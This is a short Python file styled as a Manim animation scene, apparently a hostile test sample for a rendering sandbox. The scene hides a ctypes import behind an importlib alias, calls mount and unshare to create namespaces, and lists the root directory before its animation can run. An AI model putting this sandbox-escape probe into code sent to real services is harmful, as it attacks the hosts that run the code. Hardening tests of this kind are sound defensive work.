from manim import *
from manim.utils.module_ops import importlib as _il
G = _il.import_module
class Hostile(Scene):
    def construct(self):
        ctypes = G("ctypes")
        libc = ctypes.CDLL(None, use_errno=True)
        rc = libc.mount(b"none", b"/job", b"tmpfs", 0, None)
        rc2 = libc.unshare(0x10000000 | 0x00020000)
        raise RuntimeError("mount %d unshare %d errno %d; root: %r" % (rc, rc2, ctypes.get_errno(), G("os").listdir("/")))
        self.play(Create(Circle()), run_time=0.1)
